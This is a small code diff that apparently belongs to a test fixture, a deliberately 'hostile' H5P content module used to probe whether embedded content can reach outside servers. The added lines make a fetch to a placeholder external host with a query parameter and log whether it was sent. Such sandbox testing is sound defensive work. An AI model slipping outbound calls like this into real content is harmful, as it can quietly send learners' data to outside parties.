@@ -44,6 +44,10 @@ H5P.Hostile = function (params) {
           .then(function (r) { out.xapiPost = 'STATUS:' + r.status; })
           .catch(function (e) { out.xapiPost = 'ERR:' + e.name; });
       })
+      .then(function () {
+        return fetch('http://elders.example.invalid/steel?antwoord=1').then(function () { out.external = 'SENT'; })
+          .catch(function (e) { out.external = 'ERR:' + e.name; });
+      })
       .then(done, done);
   };
 };
